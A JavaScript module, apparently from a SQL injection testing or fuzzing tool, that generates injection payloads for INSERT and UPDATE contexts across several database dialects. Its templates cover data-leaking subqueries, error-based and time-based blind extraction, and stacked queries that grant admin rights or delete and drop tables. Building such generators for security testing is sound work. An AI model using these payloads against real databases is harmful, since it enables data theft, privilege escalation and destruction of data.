import { INSERT_PLACES, UPDATE_PLACES } from '../place.js';
import { sqlGenerator } from '../sql-generator.js';

const GLUED = [
  '{base}{quote}{plus}{leak}{plus}{quote}',
  '{base}{quote}{plus}({leak}){plus}{quote}',
  '{quote}{plus}{leak}{plus}{quote}{value}',
];

/** Secrets written into rows: the value goes on as an expression, or further values and rows follow. */
export const insertValues = sqlGenerator({
  name: 'insert-values',
  places: [...INSERT_PLACES, ...UPDATE_PLACES],
  rules: {
    start: [
      ...GLUED,
      '{base}{quote},{leak},{digit}) {comment}',
      '{base}{quote},{leak}) {comment}',
      '{base}{quote}), ({quote}a{quote},{leak},{digit}) {comment}',
      '{base}{quote},{column}={leak} {comment}',
      '{base}{quote}, category={leak} WHERE id={digit} {comment}',
      '{base}{quote} WHERE 1=1 {comment}',
      '{base}{quote});{second}{comment}',
      '{base}{quote};{second}{comment}',
    ],
    plus: ['||'],
    leak: ['{secret}', '{all}', '(SELECT {column} FROM users WHERE id={digit})', '{version}', '{joined}'],
    second: ["UPDATE users SET role='admin'", 'DELETE FROM users', 'DROP TABLE messages'],
  },
  byDialect: {
    mysql: {
      plus: ['+', '-', '^', '|', ' or ', ' and '],
      leak: [
        '{secret}',
        '{all}',
        '{sleep}',
        'EXTRACTVALUE(1,{joined})',
        'ASCII({substring})',
        'CONV(HEX({substring}),16,10)',
        'UPDATEXML(1,{joined},0)',
        '(SELECT 1 FROM (SELECT SLEEP({sec}))a)',
      ],
    },
    postgres: {
      leak: ['{secret}', '{all}', '{version}', '(SELECT 1 FROM PG_SLEEP({sec}))::text', 'CAST({secret} AS int)::text'],
    },
    sqlite: {},
    mssql: { plus: ['+'] },
    oracle: {},
  },
});
